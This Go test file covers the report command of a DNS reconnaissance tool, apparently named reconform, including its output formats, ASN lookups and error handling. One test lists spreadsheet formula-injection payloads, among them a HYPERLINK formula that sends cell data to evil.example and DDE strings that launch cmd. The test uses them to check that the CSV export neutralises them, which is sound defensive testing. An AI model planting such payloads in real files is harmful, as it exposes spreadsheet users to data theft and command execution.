package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/reconform/reconform/engine/analysis"
	"github.com/reconform/reconform/engine/state"
	"github.com/reconform/reconform/schema"
)

// reportDir writes an engagement with two states built from the analysis
// fixture: the first before a DMARC downgrade, the second after it.
func reportDir(t *testing.T, hcl string) string {
	t.Helper()
	data, err := os.ReadFile("../../testdata/analysis/findings.json")
	if err != nil {
		t.Fatal(err)
	}
	var all []schema.Finding
	if err := json.Unmarshal(data, &all); err != nil {
		t.Fatal(err)
	}
	var old []schema.Finding
	for _, f := range all {
		if f.Name == "_dmarc.acme.example" {
			if strings.Contains(f.Value, "p=none") {
				continue
			}
			f.Current = true
		}
		old = append(old, f)
	}
	build := func(fs []schema.Finding, finished time.Time) *state.State {
		s := state.New("acme")
		s.Run.FinishedAt = finished
		for _, f := range fs {
			c := state.Historical
			if f.Current {
				c = state.Current
			}
			s.Findings = append(s.Findings, state.Finding{Finding: f, Currency: c})
		}
		state.SortFindings(s.Findings)
		s.Facts = analysis.Derive(s.SchemaFindings(), analysis.Options{})
		return s
	}
	dir := t.TempDir()
	if hcl != "" {
		if err := os.WriteFile(filepath.Join(dir, "main.hcl"), []byte(hcl), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	store := state.Store{Path: filepath.Join(dir, "acme.rfstate")}
	prev := build(old, time.Date(2026, 10, 20, 2, 0, 0, 0, time.UTC))
	if _, err := store.Write(nil, prev); err != nil {
		t.Fatal(err)
	}
	if _, err := store.Write(prev, build(all, time.Date(2026, 11, 20, 2, 0, 0, 0, time.UTC))); err != nil {
		t.Fatal(err)
	}
	return dir
}

const reportHCL = `engagement "acme" {
  state = "acme.rfstate"
}

scope {
  domains = ["acme.example", "acme-corp.example"]
}
`

var reportEnv = []string{"SOURCE_DATE_EPOCH=1795143600"}

func TestReportMarkdown(t *testing.T) {
	dir := reportDir(t, reportHCL)
	r := runCLI(t, dir, reportEnv, "report")
	if r.Code != exitOK || r.Stderr != "" {
		t.Fatalf("code %d: %s", r.Code, r.Stderr)
	}
	checkGolden(t, "report/report.md", r.Stdout)
	for _, want := range []string{"dmarc_policy weakened: `reject` → `none`", "| `acme.example` | microsoft-365 (before: google-workspace)"} {
		if !strings.Contains(r.Stdout, want) {
			t.Errorf("report lacks %q", want)
		}
	}
}

func TestReportFormatsAndOut(t *testing.T) {
	dir := reportDir(t, reportHCL)
	for _, format := range []string{"md", "html", "json", "csv", "cof", "dot", "mermaid", "graphml", "stix", "misp"} {
		t.Run(format, func(t *testing.T) {
			out := "report." + format
			r := runCLI(t, dir, reportEnv, "report", "-format", format, "-out", out, dir)
			if r.Code != exitOK {
				t.Fatalf("code %d: %s", r.Code, r.Stderr)
			}
			data, err := os.ReadFile(filepath.Join(dir, out))
			if err != nil || len(data) == 0 {
				t.Fatalf("no report written: %v", err)
			}
			if (format == "json" || format == "stix" || format == "misp") && !json.Valid(data) {
				t.Errorf("the %s report is not valid JSON", format)
			}
		})
	}
}

func TestReportOnStateFile(t *testing.T) {
	dir := reportDir(t, "") // no engagement: neighbours are told apart by their queries
	r := runCLI(t, t.TempDir(), reportEnv, "report", "-format", "csv", filepath.Join(dir, "acme.rfstate"))
	if r.Code != exitOK {
		t.Fatalf("code %d: %s", r.Code, r.Stderr)
	}
	// 35 findings, one of them a HOST (a name, not a record: not exported).
	if lines := strings.Count(r.Stdout, "\n"); lines != 35 {
		t.Errorf("CSV has %d lines, want a header and 34 records", lines)
	}
}

func TestReportASNTable(t *testing.T) {
	dir := reportDir(t, reportHCL)
	tsv := "203.0.113.0\t203.0.113.255\t64500\tZZ\tEXAMPLE-ORG\n"
	if err := os.WriteFile(filepath.Join(dir, "asn.tsv"), []byte(tsv), 0o644); err != nil {
		t.Fatal(err)
	}
	r := runCLI(t, dir, reportEnv, "report", "-asn-table", "asn.tsv")
	if r.Code != exitOK || !strings.Contains(r.Stdout, "| `203.0.113.0/24` | `203.0.113.10`, `203.0.113.11` | AS64500 EXAMPLE-ORG |") {
		t.Fatalf("code %d: %s\n%s", r.Code, r.Stderr, r.Stdout)
	}
}

func TestReportErrors(t *testing.T) {
	dir := reportDir(t, reportHCL)
	tests := map[string]struct {
		dir  string
		args []string
		want string
	}{
		"bad format": {dir, []string{"report", "-format", "pdf"}, "not a report format"},
		"no state":   {t.TempDir(), []string{"report"}, "no state"},
		"two states": {dir, []string{"report", "a.rfstate", "b.rfstate"}, "one engagement folder or state file"},
		"bad epoch":  {dir, []string{"report"}, "SOURCE_DATE_EPOCH"},
		"bad asn":    {dir, []string{"report", "-asn-table", "missing.tsv"}, "ASN table"},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			env := reportEnv
			if name == "bad epoch" {
				env = []string{"SOURCE_DATE_EPOCH=yesterday"}
			}
			r := runCLI(t, tc.dir, env, tc.args...)
			if r.Code != exitError || !strings.Contains(r.Stderr, tc.want) {
				t.Errorf("code %d, stderr %q; want an error about %q", r.Code, r.Stderr, tc.want)
			}
		})
	}
}

// quickstartRuns copies the quickstart to a temporary folder and runs its
// two applies (the March and the April snapshot), with facts derived by
// the real analysis; it returns the folder.
func quickstartRuns(t *testing.T) string {
	t.Helper()
	pinned := deriveFacts
	deriveFacts = nil
	t.Cleanup(func() { deriveFacts = pinned })
	dir := filepath.Join(t.TempDir(), "quickstart")
	copyExample(t, filepath.Join("..", "..", "examples", "quickstart"), dir)
	for _, args := range [][]string{
		{"apply", "-auto-approve", dir},
		{"apply", "-auto-approve", "-var", "snapshot=2", dir},
	} {
		if r := runCLI(t, dir, nil, args...); r.Code != exitOK {
			t.Fatalf("%q: exit %d\n%s%s", args, r.Code, r.Stdout, r.Stderr)
		}
	}
	return dir
}

// runStamp matches the wall-clock times of runs in a report, which change
// with every test run.
var runStamp = regexp.MustCompile(`\d{4}-\d\d-\d\d \d\d:\d\d UTC`)

// runTime matches the run's finishing time in the HTML report's data.
var runTime = regexp.MustCompile(`"now":"[^"]*"`)

// reportAssets matches the bodies of the HTML report's embedded assets
// (the graph library, its stylesheet and script, the CSP with their
// hashes): the golden file is about the content.
var reportAssets = regexp.MustCompile(`(?s)(<script id="cytoscape">|<script id="report-js">|<style id="report-css">|<meta http-equiv="Content-Security-Policy" content=")(.*?)(</script>|</style>|">)`)

// TestReportQuickstart reports on the quickstart after its two runs: the
// profile, tokens, verdicts, shared hosting and timeline of Northwind.
func TestReportQuickstart(t *testing.T) {
	dir := quickstartRuns(t)
	for _, format := range []string{"md", "html", "mermaid"} {
		r := runCLI(t, dir, reportEnv, "report", "-format", format, "-var", "snapshot=2")
		if r.Code != exitOK || r.Stderr != "" {
			t.Fatalf("report -format %s: exit %d\n%s", format, r.Code, r.Stderr)
		}
		out := runStamp.ReplaceAllString(r.Stdout, "2025-04-01 00:00 UTC")
		if format == "html" {
			out = runTime.ReplaceAllString(reportAssets.ReplaceAllString(out, "$1/* asset */$3"), `"now":"2025-04-01T00:00:00Z"`)
		}
		checkGolden(t, "report/quickstart."+format, out)
		if format != "md" {
			continue
		}
		for _, want := range []string{
			"| `northwind.example` | microsoft-365 (before: google-workspace) | self-hosted | -all, 1 lookup | p=none | atlassian + docusign + google + microsoft-365 |",
			"| `northwind-corp.example` | self-hosted | self-hosted | -all, 1 lookup | p=quarantine |",
			"198.51.100.25 is shared hosting",
			"| 2025-03-11 | `www.northwind.example` | A | `203.0.113.10` | `203.0.113.40` |",
			"dmarc_policy weakened: `reject` → `none`",
		} {
			if !strings.Contains(out, want) {
				t.Errorf("quickstart report lacks %q", want)
			}
		}
	}
}

// A state written by hand, with record shapes as zone files and dig show
// them, reports as if reconform had collected it, AS numbers included.
func TestReportHandWrittenState(t *testing.T) {
	dir := t.TempDir()
	st := `{"format_version": 1, "serial": 1, "engagement": "hand", "findings": [
  {"name": "Hand.Example.", "type": "mx", "value": "10 HAND-example.mail.protection.outlook.com.", "currency": "current"},
  {"name": "hand.example", "type": "TXT", "value": "\"v=spf1 include:spf.protection.outlook.com \" \"?all\"", "currency": "current"},
  {"name": "_dmarc.hand.example", "type": "TXT", "value": "\"v=DMARC1; p=quarantine; sp=none; pct=50\"", "currency": "current"},
  {"name": "WWW.hand.example", "type": "A", "value": "192.0.2.7", "currency": "current"}]}`
	if err := os.WriteFile(filepath.Join(dir, "hand.rfstate"), []byte(st), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "asn.tsv"), []byte("192.0.2.0\t192.0.2.255\t64500\tZZ\tEXAMPLE-ORG\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"report", "hand.rfstate"}, {"report", "-asn-table", "asn.tsv", "hand.rfstate"}} {
		r := runCLI(t, dir, reportEnv, args...)
		if r.Code != exitOK {
			t.Fatalf("%v: code %d: %s", args, r.Code, r.Stderr)
		}
		want := "| `hand.example` | microsoft-365 |  | ?all (permissive), 1 lookup | p=quarantine sp=none pct=50 |"
		if !strings.Contains(r.Stdout, want) {
			t.Errorf("%v: no %q in\n%s", args, want, r.Stdout)
		}
		if len(args) == 4 && (!strings.Contains(r.Stdout, "| `192.0.2.0/24` | `192.0.2.7` | AS64500 EXAMPLE-ORG |") ||
			!strings.Contains(r.Stdout, "| AS64500 EXAMPLE-ORG | `192.0.2.0/24` | 1 |")) {
			t.Errorf("no AS in\n%s", r.Stdout)
		}
	}
}

// The CSV export neutralises values a spreadsheet would run as formulas,
// and the file provider reads the export back to the same findings: the
// protection costs nothing on a round trip through reconform.
func TestReportCSVRoundTrip(t *testing.T) {
	at := func(y, m, d int) time.Time { return time.Date(y, time.Month(m), d, 0, 0, 0, 0, time.UTC) }
	hostile := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		"+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(1+9)*cmd|' /C calc'!A0",
		"'=already quoted",
		"v=spf1 -all",
	}
	s := state.New("export")
	s.Run.FinishedAt = at(2026, 11, 20)
	for i, v := range hostile {
		f := schema.NewFinding("hostile.example", "TXT", v)
		f.FirstSeen, f.LastSeen, f.Count, f.Sources = at(2024, 1, 1+i), at(2026, 11, 1), int64(10+i), []string{"file.seed"}
		s.Findings = append(s.Findings, state.Finding{Finding: f, Currency: state.Historical})
	}
	a := schema.NewFinding("hostile.example", "A", "192.0.2.80")
	a.FirstSeen, a.LastSeen, a.Count = at(2023, 5, 1), at(2026, 11, 1), 3
	s.Findings = append(s.Findings, state.Finding{Finding: a, Currency: state.Historical})
	state.SortFindings(s.Findings)
	dir := t.TempDir()
	if _, err := (&state.Store{Path: filepath.Join(dir, "export.rfstate")}).Write(nil, s); err != nil {
		t.Fatal(err)
	}
	if r := runCLI(t, dir, reportEnv, "report", "-format", "csv", "-out", "export.csv", "export.rfstate"); r.Code != exitOK {
		t.Fatalf("report: %d %s", r.Code, r.Stderr)
	}
	csvData, err := os.ReadFile(filepath.Join(dir, "export.csv"))
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(strings.TrimSpace(string(csvData)), "\n")[1:] {
		fields := strings.SplitN(line, ",", 3)
		if v := fields[2]; strings.ContainsAny(v[:1], "=+-@") {
			t.Errorf("a value starts a formula: %s", line)
		}
	}

	back := filepath.Join(dir, "back")
	if err := os.MkdirAll(back, 0o755); err != nil {
		t.Fatal(err)
	}
	hcl := `engagement "back" {
  state = "back.rfstate"
}
scope {
  domains = ["hostile.example"]
}
provider "file" "export" {
  path   = "../export.csv"
  format = "csv"
}
target "domain" "hostile" { name = "hostile.example" }
query "records" {
  provider = provider.file.export
  op       = "resolutions"
  subjects = [target.domain.hostile]
}
`
	if err := os.WriteFile(filepath.Join(back, "main.hcl"), []byte(hcl), 0o644); err != nil {
		t.Fatal(err)
	}
	if r := runCLI(t, back, nil, "apply", "-auto-approve"); r.Code != exitOK {
		t.Fatalf("apply on the export: %d\n%s%s", r.Code, r.Stdout, r.Stderr)
	}
	got, err := state.ReadFile(filepath.Join(back, "back.rfstate"))
	if err != nil {
		t.Fatal(err)
	}
	type rec struct {
		Name, Type, Value string
		First, Last       time.Time
		Count             int64
	}
	var want, have []string
	for _, f := range s.Findings {
		want = append(want, fmt.Sprint(rec{f.Name, f.Type, f.Value, f.FirstSeen, f.LastSeen, f.Count}))
	}
	for _, f := range got.Findings {
		have = append(have, fmt.Sprint(rec{f.Name, f.Type, f.Value, f.FirstSeen.UTC(), f.LastSeen.UTC(), f.Count}))
	}
	slices.Sort(want)
	slices.Sort(have)
	if !slices.Equal(want, have) {
		t.Errorf("the file provider read the CSV export back as\n%s\nwant\n%s", strings.Join(have, "\n"), strings.Join(want, "\n"))
	}
}
